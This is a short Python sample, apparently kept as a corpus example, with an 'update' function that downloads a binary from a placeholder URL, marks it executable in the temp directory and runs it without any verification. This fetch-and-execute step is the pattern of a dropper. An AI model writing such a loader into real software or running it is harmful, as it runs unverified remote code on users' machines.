"""Corpus sample: fetches a binary, marks it executable and runs it."""

import os
import subprocess
import tempfile
import urllib.request

PAYLOAD = "https://cdn.corpus.invalid/tools/updater-linux-x64.elf"


def update():
    target = os.path.join(tempfile.gettempdir(), "comfy-updater")
    urllib.request.urlretrieve(PAYLOAD, target)
    os.chmod(target, 0o755)
    subprocess.Popen([target])
